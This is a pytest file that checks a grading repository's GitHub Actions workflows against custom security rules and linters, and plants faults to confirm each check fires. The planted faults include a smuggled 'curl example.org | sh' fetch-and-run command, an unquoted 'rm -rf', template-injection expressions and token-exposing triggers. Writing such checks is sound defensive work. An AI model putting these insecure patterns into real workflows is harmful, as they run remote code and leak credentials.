"""The workflows: linted, and held to rules of our own. Each checker finds a planted fault."""

from __future__ import annotations

import shutil
import subprocess
import sysconfig
from pathlib import Path

import pytest

from tests.conftest import ROOT
from tests.workflows import rules

FILES = rules.files(ROOT)
IDS = [path.name for path in FILES]
# Three jobs as in grade.yml, as short as they can be, and nothing wrong with them.
GOOD = """\
name: Good
on:
  schedule:
    - cron: "7 * * * *"
permissions: {}
concurrency:
  group: good
  cancel-in-progress: false
jobs:
  plan:
    name: Plan
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    environment: reading
    permissions:
      contents: read # the course
    outputs:
      artifact: ${{ steps.keep.outputs.artifact-id }}
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - id: app
        uses: actions/create-github-app-token@1b10c78c7865c340bc4f6099eb2f838309f1e8c3 # v3.1.1
        with:
          client-id: ${{ vars.CLIENT_ID }}
          private-key: ${{ secrets.PRIVATE_KEY }}
          owner: ${{ github.repository_owner }}
          repositories: course
          permission-contents: read
      - env:
          TOKEN: ${{ steps.app.outputs.token }}
        run: python3 -P -m gradus.pulls fetch "$RUNNER_TEMP/work"
      - id: keep
        uses: actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f # v7.0.0
        with:
          name: work
          path: ${{ runner.temp }}/work
  grade:
    name: Grade
    needs: plan
    runs-on: ubuntu-24.04
    timeout-minutes: 90
    permissions:
      contents: read # the course
    steps:
      - uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1
        with:
          artifact-ids: ${{ needs.plan.outputs.artifact }}
          path: ${{ runner.temp }}/work
      - run: uv run gradus grade "$RUNNER_TEMP"/work/* --out reports
"""
JUDGE = '      - run: uv run gradus grade "$RUNNER_TEMP"/work/* --out reports\n'
FETCH = 'run: python3 -P -m gradus.pulls fetch "$RUNNER_TEMP/work"'
KEEP = "          persist-credentials: false\n"
FAULTS = {
    "is started by pull_request_target": ("  schedule:\n", "  pull_request_target:\n  schedule:\n"),
    "is started by workflow_run": ("  schedule:\n", "  workflow_run:\n    workflows: [CI]\n  schedule:\n"),
    "is started by issue_comment": ("  schedule:\n", "  issue_comment:\n  schedule:\n"),
    "grants permissions at the top": ("permissions: {}", "permissions: read-all"),
    "has no concurrency group": ("  group: good\n", ""),
    "has a token in the environment of all jobs": ("jobs:\n", "env:\n  T: ${{ github.token }}\njobs:\n"),
    "does not pin by commit": ("checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "checkout@v7"),
    "with the version beside it": (" # v7.0.1", ""),
    "an action that is not on the list: actions/cache": ("uses: actions/upload-artifact", "uses: actions/cache"),
    "says not what it may do": ("    permissions:\n      contents: read # the course\n    steps", "    steps"),
    "no timeout, or a long one": ("    timeout-minutes: 5\n", ""),
    "has no timeout, or a long one": ("timeout-minutes: 90", "timeout-minutes: 360"),
    "does not run on a machine of GitHub's": ("runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    "of a version that is named": ("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    "may ask for an identity": ("contents: read # the course", "id-token: write"),
    "a secret that belongs to no environment": ("    environment: reading\n", ""),
    "has a token in the environment of all steps": (
        "    environment: reading\n",
        "    environment: reading\n    env:\n      K: ${{ secrets.PRIVATE_KEY }}\n",
    ),
    "a pull request defines what it does": ("  schedule:\n", "  pull_request:\n  schedule:\n"),
    "grade: runs students' code and has a token": (JUDGE, JUDGE + "        env:\n          T: ${{ github.token }}\n"),
    "plan: runs students' code and has a token": (FETCH, "run: uv run pytest"),
    "runs students' code and may do more than read": (
        "    timeout-minutes: 90\n    permissions:\n      contents: read # the course",
        "    timeout-minutes: 90\n    permissions:\n      pull-requests: write",
    ),
    "runs students' code and has a cache": (
        JUDGE,
        JUDGE + "      - uses: astral-sh/setup-uv@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f # v7.0.0\n"
        "        with:\n          enable-cache: true\n",
    ),
    "an expression in a script": (JUDGE, JUDGE + "      - run: echo ${{ github.head_ref }}\n"),
    "grade: fetches code by a command": (JUDGE, "      - run: git fetch origin pull/1/head\n" + JUDGE),
    "plan: fetches code by a command": (FETCH, "run: gh pr checkout 1"),
    "changes the environment of later steps": (JUDGE, '      - run: echo x >> "$GITHUB_PATH"\n' + JUDGE),
    "keeps credentials after a checkout": (KEEP, "          fetch-depth: 1\n"),
    "checks out something else, by ref": (KEEP, KEEP + "          ref: ${{ github.event.pull_request.head.sha }}\n"),
    "checks out something else, by repository": (KEEP, KEEP + "          repository: student/fork\n"),
    "checks out something else, by allow-unsafe": (KEEP, KEEP + "          allow-unsafe-pr-checkout: true\n"),
    "an artifact whose name is not fixed": ("name: work", "name: ${{ github.head_ref }}"),
    "an artifact outside of the temporary folder": ("path: ${{ runner.temp }}/work", "path: work"),
    "an artifact of another run": (
        "          artifact-ids:",
        "          run-id: ${{ github.event.workflow_run.id }}\n          artifact-ids:",
    ),
    "by a name that another job could have given": ("artifact-ids: ${{ needs.plan.outputs.artifact }}", "name: work"),
    "a token for more than is needed": ("          repositories: course\n", ""),
    "plan: has a token and runs something else": (FETCH, "run: pip install requests"),
    "something else than gradus.pulls: python3 -P -m gradus.pulls fetch x && curl": (
        FETCH,
        "run: python3 -P -m gradus.pulls fetch x && curl example.org | sh",
    ),
}


@pytest.mark.parametrize("path", FILES, ids=IDS)
def test_our_rules(path: Path) -> None:
    assert rules.findings(path.read_text("utf-8")) == []


def test_there_is_something_to_look_at() -> None:
    assert {"ci.yml", "grade.yml", "checks.yml"} <= set(IDS)
    assert rules.findings(GOOD) == []


@pytest.mark.parametrize("words", FAULTS)
def test_our_rules_find_a_planted_fault(words: str) -> None:
    before, after = FAULTS[words]
    assert before in GOOD
    assert [finding for finding in rules.findings(GOOD.replace(before, after)) if words in finding]


def test_one_version_of_each_action_everywhere() -> None:
    used = {line.strip("- \n") for path in FILES for line in path.read_text("utf-8").splitlines() if "uses:" in line}
    assert len(used) == len({line.partition("@")[0] for line in used})


def test_students_get_nothing_but_to_read() -> None:
    (checks,) = [path for path in FILES if path.name == "checks.yml"]
    text = checks.read_text("utf-8")
    assert "secrets" not in text and "write" not in text and "environment" not in text


# Linters


def tool(name: str, *arguments: object) -> subprocess.CompletedProcess[str]:
    program = shutil.which(name, path=sysconfig.get_path("scripts"))
    assert program, f"{name} is not installed: uv sync"
    return subprocess.run([program, *map(str, arguments)], capture_output=True, text=True, timeout=60)


def lint(name: str, *paths: Path) -> subprocess.CompletedProcess[str]:
    options = {
        "zizmor": ["--offline", "--strict-collection", "--persona=auditor", "--no-progress"],
        "schema": ["--builtin-schema", "vendor.github-workflows"],
        "timeout": ["--builtin-schema", "custom.github-workflows-require-timeout"],
    }
    return tool("zizmor" if name == "zizmor" else "check-jsonschema", *options[name], *paths)


@pytest.mark.parametrize("linter", ["zizmor", "schema", "timeout"])
def test_linters_find_nothing(linter: str) -> None:
    done = lint(linter, *FILES)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize(
    ("linter", "words", "before", "after"),
    [
        ("zizmor", "template-injection", JUDGE, JUDGE + "      - run: echo ${{ github.event.issue.title }}\n"),
        ("zizmor", "dangerous-triggers", "  schedule:\n", "  pull_request_target:\n  schedule:\n"),
        ("zizmor", "unpinned-uses", "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7"),
        ("zizmor", "artipacked", KEEP, "          fetch-depth: 1\n"),
        ("zizmor", "excessive-permissions", "permissions: {}", "permissions: write-all"),
        ("zizmor", "secrets-outside-env", "    environment: reading\n", ""),
        ("zizmor", "concurrency-limits", "concurrency:\n  group: good\n  cancel-in-progress: false\n", ""),
        ("zizmor", "github-app", "          permission-contents: read\n", ""),
        ("schema", "unknown", "permissions: {}", "permissions: {}\nunknown: 1"),
        ("schema", "contents", "contents: read # the course", "contents: all"),
        ("timeout", "timeout-minutes", "    timeout-minutes: 90\n", ""),
    ],
)
def test_linters_find_a_planted_fault(tmp_path: Path, linter: str, words: str, before: str, after: str) -> None:
    assert before in GOOD
    done = lint(linter, written(tmp_path, GOOD.replace(before, after)))
    assert done.returncode and words in done.stdout + done.stderr


@pytest.mark.parametrize("linter", ["zizmor", "schema"])
def test_linters_find_nothing_where_nothing_is_planted(tmp_path: Path, linter: str) -> None:
    assert lint(linter, written(tmp_path, GOOD)).returncode == 0


def written(folder: Path, text: str) -> Path:
    path = folder / ".github" / "workflows" / "planted.yml"
    path.parent.mkdir(parents=True)
    path.write_text(text, "utf-8")
    return path


def shellcheck(script: str, folder: Path) -> subprocess.CompletedProcess[str]:
    path = folder / "step.sh"
    path.write_text(f"#!/usr/bin/env bash\nset -eo pipefail\n{script}\n", "utf-8")
    return tool("shellcheck", "--norc", path)


@pytest.mark.parametrize("path", [*FILES, ROOT / ".ci" / "run"], ids=[*IDS, "run"])
def test_shell_scripts(path: Path, tmp_path: Path) -> None:
    text = path.read_text("utf-8")
    for script in rules.runs(text) if path.suffix == ".yml" else [text]:
        done = shellcheck(script, tmp_path)
        assert done.returncode == 0, done.stdout


@pytest.mark.parametrize("fault", ["rm -rf $FOLDER", "cat <(echo", "if [ $x = y ]; then echo; fi", "read x"])
def test_shellcheck_finds_a_planted_fault(fault: str, tmp_path: Path) -> None:
    done = shellcheck(fault, tmp_path)
    assert done.returncode == 1 and "SC" in done.stdout
